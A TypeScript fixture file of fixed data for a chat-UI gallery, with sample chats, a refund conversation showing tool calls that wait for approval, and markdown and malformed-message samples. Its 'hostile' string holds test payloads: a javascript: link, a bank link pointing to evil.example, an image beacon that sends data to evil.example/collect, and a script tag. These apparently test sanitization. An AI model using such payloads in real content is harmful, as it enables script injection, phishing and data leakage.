// Fixed data for the gallery, without clock or randomness, so that screenshots are reproducible.
import type { UIMessage } from "ai";

export const NOW = Date.UTC(2025, 10, 14, 14, 10);

const daysAgo = (days: number, hour = 9) => new Date(Date.UTC(2025, 10, 14 - days, hour)).toISOString();

export const chats = [
  { id: "1", title: "Refund for order 4417", href: "#1", updatedAt: daysAgo(0, 14), isWaiting: true },
  {
    id: "2",
    title: "Compare the three EU hosting offers and tell me which is cheapest",
    href: "#2",
    updatedAt: daysAgo(0, 12),
    isUnread: true,
  },
  { id: "3", title: "Release notes, October", href: "#3", updatedAt: daysAgo(0) },
  { id: "4", title: "Why did the nightly import stall?", href: "#4", updatedAt: daysAgo(1, 16) },
  { id: "5", title: "Trip to Oslo", href: "#5", updatedAt: daysAgo(1) },
  { id: "6", title: "Draft: onboarding email", href: "#6", updatedAt: daysAgo(4) },
  {
    id: "7",
    title: "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen",
    href: "#7",
    updatedAt: daysAgo(40),
  },
];

export const prompts = [
  {
    title: "Write something long",
    description: "A long answer with headings, a table and code. Reload in the middle.",
    prompt: "Explain how tides work, with a table.",
  },
  {
    title: "Use a tool",
    description: "Looks up an order and shows the input and output.",
    prompt: "Where is order 4417?",
  },
  {
    title: "Think first",
    description: "A question that needs reasoning before the answer.",
    prompt: "Which is the cheapest of these three offers?",
  },
  {
    title: "Answer slowly",
    description: "A twenty-second answer. Close the tab and come back.",
    prompt: "Answer slowly, please.",
  },
  {
    title: "Recover from an error",
    description: "The model returns an error. Your question is kept and you can retry.",
    prompt: "Return an error.",
  },
  {
    title: "Crash the worker",
    description: "The process dies in the middle of its answer. Watch another worker take over.",
    prompt: "Crash the worker.",
  },
];

export const question: UIMessage = {
  id: "question",
  role: "user",
  parts: [
    {
      type: "text",
      text: "Customer of order 4417 says the lamp arrived broken. Refund it, but only the lamp.",
    },
  ],
};

export const answer: UIMessage = {
  id: "answer",
  role: "assistant",
  metadata: { durations: { "reasoning-1": 3120, call_1: 412 } },
  parts: [
    { type: "step-start" },
    {
      type: "reasoning",
      text: "The order has two items. The lamp was delivered two days ago.\n\nThe refund window is 30 days, so it applies.",
      state: "done",
    },
    {
      type: "text",
      text: "I found the order. It has two items, and the lamp was delivered on 12 November, inside the 30-day window.",
      state: "done",
    },
    {
      type: "tool-lookupOrder",
      toolCallId: "call_1",
      state: "output-available",
      input: { order: "4417" },
      output: { id: "4417", items: ["ARC-LAMP-02", "RUG-11"], delivered: "2025-11-12" },
    },
    {
      type: "text",
      text: "The **Arc lamp** alone is `€ 89.00`; shipping stays with the other item. Say the word and I send the refund.",
      state: "done",
    },
    { type: "source-url", sourceId: "s1", url: "https://example.com/policy/refunds", title: "Refund policy" },
    { type: "source-url", sourceId: "s2", url: "https://example.com/orders/4417" },
    {
      type: "source-document",
      sourceId: "s3",
      mediaType: "application/pdf",
      title: "Invoice 4417",
      filename: "invoice-4417.pdf",
    },
  ],
};

export const markdown = `# Tides, shortly

The Moon pulls on the **near** side of the Earth more than on the far side. That difference, not the pull itself, is what lifts the water. See [the long story](https://example.com/tides) or ask for *more*.

## What decides their height

1. The phase of the Moon
2. The shape of the coast
   - narrow bays rise higher
   - \`Bay of Fundy\` holds the record
3. The wind on the day

- [x] Explained the cause
- [ ] Explained the exceptions

| Place | Range | Highest recorded | Next spring tide | Remark about this station |
| :-- | --: | --: | :-- | :-- |
| Bay of Fundy | 11.7 m | 16.3 m | 15 November | The largest range there is |
| Mont-Saint-Michel | 10.1 m | 14.5 m | 15 November | The island becomes one twice a month |
| Oslo | 0.3 m | 2.2 m | 16 November | Storms matter more than the Moon |

> A spring tide has nothing to do with the season.
> It springs.

### In code

\`\`\`ts
export function rangeAt(station: Station, moon: Phase): Metres {
  const pull = 2 * G * moon.mass * EARTH_RADIUS ** 3 / moon.distance ** 3; // the difference of two pulls, which is why it is cubed
  return station.shape * pull;
}
\`\`\`

---

Footnote: water takes about six hours from low to high.`;

export const hostile = `Links: [script](javascript:alert(1)), [https://bank.example](https://evil.example/login), [mail](mailto:a@b.example), [own page](/chat/1), [data](data:text/html,hi).

Images: ![secret](https://evil.example/collect?words=secret) and <img src="https://evil.example/x.png"> and <script>alert(1)</script>.

A word: ${"Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz".repeat(4)}

مرحبا بالعالم، هذا نص من اليمين إلى اليسار.

\`\`\`
${"one very long line without any break ".repeat(12)}
\`\`\``;

const tool = { toolCallId: "call", input: { order: "4417" } };

export const toolParts = [
  { type: "tool-lookupOrder", toolCallId: "t1", state: "input-streaming", input: undefined },
  { type: "tool-lookupOrder", ...tool, state: "input-available" },
  {
    type: "tool-lookupOrder",
    ...tool,
    state: "output-available",
    output: { id: "4417", total: 128.5, items: ["ARC-LAMP-02", "RUG-11"] },
  },
  {
    type: "dynamic-tool",
    toolName: "search_the_web_for_everything_there_is",
    toolCallId: "t2",
    state: "output-available",
    input: {
      query: "cheapest EU hosting with object storage and a free tier",
      limit: 5,
      regions: ["de", "fi"],
    },
    output: "Nothing found.",
  },
  {
    type: "tool-refund",
    ...tool,
    state: "approval-requested",
    input: { order: "4417", amount: "89.00 EUR" },
    approval: { id: "a1" },
  },
  {
    type: "tool-refund",
    ...tool,
    state: "approval-responded",
    input: { order: "4417", amount: "89.00 EUR" },
    approval: { id: "a1", approved: true },
  },
  {
    type: "tool-refund",
    ...tool,
    state: "output-denied",
    approval: { id: "a1", approved: false, reason: "Not this month" },
  },
  {
    type: "tool-refund",
    ...tool,
    state: "output-error",
    errorText: "The payment provider answered 503 Service Unavailable after 3 tries",
  },
] satisfies UIMessage["parts"];

export const oddMessage: UIMessage = {
  id: "odd",
  role: "assistant",
  parts: [
    { type: "data-weather", data: { city: "Oslo", celsius: -3 } },
    {
      type: "file",
      mediaType: "application/pdf",
      filename: "invoice-4417.pdf",
      url: "https://example.com/invoice-4417.pdf",
    },
    { type: "custom", kind: "acme.widget" },
    // A part that a newer version may have stored.
    { type: "hologram", beam: 7 } as unknown as UIMessage["parts"][number],
  ],
};

export const brokenMessage: UIMessage = {
  id: "broken",
  role: "assistant",
  parts: [
    { type: "text", text: "These words are fine." },
    {
      type: "source-url",
      sourceId: "s",
      url: "https://example.com",
      title: { not: "a string" } as unknown as string,
    },
  ],
};

export const longChat: UIMessage[] = Array.from({ length: 12 }, (_, index) => [
  {
    id: `q${index}`,
    role: "user" as const,
    parts: [{ type: "text" as const, text: `Question ${index + 1}: how high is the tide?` }],
  },
  {
    id: `a${index}`,
    role: "assistant" as const,
    parts: [
      {
        type: "text" as const,
        text: `Answer ${index + 1}. About three metres today, a little more tomorrow when the Moon is full.`,
      },
    ],
  },
]).flat();

export const looseMarkdown = `**Note:**bold beside punctuation, and **(also)**here. Between ~200 and ~300 items; ~~one~~ is gone.

Water is H<sub>2</sub>O, the area \\(x^2\\). Press <kbd>Esc</kbd> to <mark>stop</mark>; <u>never</u> mind <blink>this</blink>.

| Port | Tides |
| --- | --- |
| Fundy | highest<br>in the world |

See https://example.com/tides and the note[^1].

- The height follows:

  \\[
  h = h_0 \\cos(\\omega t)
  \\]
- It costs $5 and $10.

\`\`\`markdown
# A page

\`\`\`js
tide(1);
\`\`\`

The end of the page.
\`\`\`

[^1]: Tables of the harbor office.
`;
